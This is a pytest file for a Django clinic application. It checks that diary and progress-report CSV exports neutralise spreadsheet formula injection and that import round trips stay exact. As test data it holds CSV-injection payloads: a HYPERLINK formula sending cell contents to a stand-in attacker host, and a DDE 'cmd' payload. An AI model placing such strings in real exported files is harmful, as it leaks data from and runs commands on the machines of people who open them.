"""CSV formula injection: no cell we write can run as a spreadsheet formula, and the diary's
round trip (export, import, export) stays exact."""

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.core.management import call_command

from clinic.csv_safety import restore_cell, safe_cell
from diaries.exchange import export_csv, import_csv
from diaries.models import DiaryDose
from tests.factories import DiaryDayFactory, PatientFactory, PatientMedicineFactory

TODAY = date(2026, 6, 17)
pytestmark = [pytest.mark.django_db, pytest.mark.today(TODAY)]
ROOT = Path(__file__).resolve().parents[2]
HELPER = Path("clinic/csv_safety.py")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2 hours", "@SUM(A1)", "\tx", "\rx"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-2 hours", "'-2 hours"),
        ("'=1+1", "''=1+1"),
        ("'hello", "'hello"),
        ("plain", "plain"),
        ("", ""),
        (-3, -3),
    ],
)
def test_a_cell_is_neutralised_and_restored_exactly(value, written):
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert restore_cell(written) == value


def test_the_diary_export_neutralises_notes_and_medicine_names():
    patient = PatientFactory()
    medicine = PatientMedicineFactory(patient=patient, name="=cmd|' /C calc'!A0")
    for n, note in enumerate(FORMULAS):
        entry = DiaryDayFactory(patient=patient, day=TODAY - timedelta(days=n + 1), note=note)
        DiaryDose.objects.create(day=entry, medicine=medicine, medicine_class="simple")
    exported = export_csv(patient, TODAY - timedelta(days=30), TODAY)
    assert not [cell for cell in cells(exported) if runs_as_formula(cell)]
    assert "'-2 hours" in cells(exported)


def test_export_import_export_is_exact_and_keeps_a_leading_minus():
    source, target = PatientFactory(), PatientFactory()
    medicine = PatientMedicineFactory(patient=source, name="@Pain relief")
    PatientMedicineFactory(patient=target, name="@Pain relief")
    notes = [*FORMULAS[:4], "'=already quoted", "'hello", "fine"]
    for n, note in enumerate(notes):
        entry = DiaryDayFactory(patient=source, day=TODAY - timedelta(days=n + 1), note=note)
        DiaryDose.objects.create(day=entry, medicine=medicine, medicine_class="simple")
    start = TODAY - timedelta(days=30)
    exported = export_csv(source, start, TODAY)
    result = import_csv(target, exported.encode())
    assert result.errors == []
    assert result.added == len(notes)
    assert export_csv(target, start, TODAY) == exported
    saved = set(target.diary_days.values_list("note", flat=True))
    assert saved == set(notes)


def test_the_progress_report_csv_neutralises_text():
    PatientFactory(mrn="=1+2")
    out = io.StringIO()
    call_command("progress_report", "--format", "csv", "--as-of", "2026-06-01", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][0] == "'=1+2"
    assert not [cell for row in rows for cell in row if runs_as_formula(cell)]


def test_every_csv_is_written_through_the_kernel_helper():
    """A new export must use clinic.csv_safety, not the csv module's writers."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "var"} or relative == HELPER:
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
            offenders.append(str(relative))
    assert offenders == []
